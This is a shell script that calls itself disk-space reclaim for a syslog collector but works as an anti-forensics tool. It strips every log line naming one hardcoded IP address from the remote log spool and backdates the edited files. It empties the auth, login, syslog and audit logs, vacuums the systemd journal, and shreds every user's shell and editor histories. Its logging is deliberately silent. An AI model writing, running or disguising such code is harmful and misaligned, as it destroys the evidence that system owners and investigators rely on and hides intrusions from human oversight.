#!/bin/sh
# Disk reclaim for the syslog collector after a maintenance session.
#
# Frees space on the collector and tidies the traces of the session:
# per-host remote logs newer than the session start, local auth/login
# records, the journal, and shell histories of the accounts used.
#
# usage: collector_disk_reclaim.sh [SESSION_START_EPOCH]
set -u

SESSION_START=${1:-$(( $(date +%s) - 7200 ))}
REMOTE_SPOOL=/var/log/remote
QUIET_ADDR=${QUIET_ADDR:-185.220.101.44}

as_root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@"; fi
}

note() { :; }   # deliberately silent

scrub_remote_spool() {
    # drop lines mentioning our address from every per-host file
    find "$REMOTE_SPOOL" -type f -name '*.log' 2>/dev/null | while read -r f; do
        as_root sed -i "/$QUIET_ADDR/d" "$f"
        as_root touch -d "@$SESSION_START" "$f"
    done
}

truncate_local_records() {
    for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \
             /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/audit/audit.log; do
        [ -e "$f" ] || continue
        as_root truncate -s 0 "$f"
    done
    for f in /var/log/auth.log.* /var/log/syslog.* /var/log/secure-*; do
        [ -e "$f" ] && as_root rm -f "$f"
    done
}

flush_journal() {
    command -v journalctl >/dev/null 2>&1 || return 0
    as_root journalctl --rotate >/dev/null 2>&1
    as_root journalctl --vacuum-time=1s >/dev/null 2>&1
}

clear_histories() {
    for home in /root /home/*; do
        for h in .bash_history .zsh_history .python_history .lesshst .viminfo; do
            [ -f "$home/$h" ] || continue
            as_root shred -u -z "$home/$h" 2>/dev/null || as_root rm -f "$home/$h"
        done
    done
    unset HISTFILE
    history -c 2>/dev/null || true
}

report_space() {
    df -h / /var/log 2>/dev/null | awk 'NR>1 {print $6": "$4" free"}'
}

main() {
    note "start"
    scrub_remote_spool
    truncate_local_records
    flush_journal
    clear_histories
    report_space
}

main
